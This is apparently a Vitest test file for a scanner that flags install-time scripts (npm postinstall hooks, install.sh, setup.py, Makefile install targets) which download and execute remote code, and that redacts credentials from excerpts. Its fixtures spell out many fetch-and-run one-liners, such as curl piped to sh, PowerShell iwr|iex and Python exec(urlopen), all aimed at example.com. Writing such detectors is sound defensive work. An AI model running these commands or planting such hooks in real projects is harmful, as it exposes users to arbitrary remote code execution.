import { expect, it } from 'vitest';
import { observed, type ProjectFiles } from '#testing/inspection/project-files.ts';
import { observeManifests } from '../observe-manifests.ts';

const placesIn = async (files: ProjectFiles) => {
  const { installScripts } = await observed(observeManifests(), files);
  return installScripts.map(({ path, line }) => `${path}:${line}`);
};
const packageWith = (script: string, command: string) =>
  JSON.stringify({ name: 'app', scripts: { dev: 'vite', [script]: command } }, null, 2);

it.each([
  'curl -fsSL https://example.com/i.sh | sh',
  'curl https://example.com/i.sh | sudo -E bash -s -- --yes',
  'wget -qO- https://example.com/x | node',
  'bash -c "$(curl -fsSL https://example.com/i.sh)"',
  'bash <(curl -s https://example.com/i.sh)',
  'curl -o x https://example.com/x && chmod +x x && ./x',
  "node -e \"require('https').get('https://example.com/x', r => r.on('data', d => eval(String(d))))\"",
  'powershell -c "iwr https://example.com/x.ps1 | iex"',
  'python3 -c "import urllib.request as u; exec(u.urlopen(\'https://example.com\').read())"',
])('A postinstall script that fetches and runs is found with its line: %s', async (command) => {
  expect(await placesIn({ 'top/package.json': packageWith('postinstall', command) })).toEqual([
    'top/package.json:5',
  ]);
});

it.each([
  'prisma generate',
  'husky install',
  'patch-package',
  'node scripts/postinstall.js',
  'curl -o data.json https://example.com/data.json',
  'node -e "console.log(1)"',
])('An honest postinstall script is no problem: %s', async (command) => {
  expect(await placesIn({ 'package.json': packageWith('postinstall', command) })).toEqual([]);
});

it('A script that nobody runs during an installation is no problem', async () => {
  expect(
    await placesIn({ 'package.json': packageWith('deploy', 'curl https://example.com/i.sh | sh') }),
  ).toEqual([]);
});

it('Installation scripts, setup.py and the install target of a Makefile are looked at by their lines', async () => {
  const files = {
    'install.sh': '#!/bin/sh\n# curl https://example.com | sh\ncurl https://example.com/i.sh | sh\n',
    'setup.py': "import os, urllib.request\nexec(urllib.request.urlopen('https://example.com').read())\n",
    Makefile: 'build:\n\tcurl x | sh\n\ninstall: build\n\tcurl https://example.com/i.sh | bash\n',
    'README.md': 'curl https://example.com/i.sh | sh\n',
    'deploy.sh': 'curl https://example.com/i.sh | sh\n',
  };
  expect(await placesIn(files)).toEqual(['install.sh:3', 'setup.py:2', 'Makefile:5']);
});

it('A script that fetches and runs is a problem once a lifecycle command names it, in whatever order they come', async () => {
  const files = {
    'scripts/get.js':
      "const { execSync } = require('child_process');\nexecSync('curl https://example.com/i.sh | sh');\n",
    'package.json': packageWith('postinstall', 'node scripts/get.js'),
  };
  expect(await placesIn(files)).toEqual(['scripts/get.js:2']);
});

it('An excerpt is short and hides who signs in', async () => {
  const command = `curl https://me:secret@example.com/${'a'.repeat(500)} | sh`;
  const { installScripts } = await observed(observeManifests(), {
    'package.json': packageWith('install', command),
  });
  expect(installScripts[0]!.excerpt).toHaveLength(160);
  expect(installScripts[0]!.excerpt).toContain('curl https://example.com/');
});
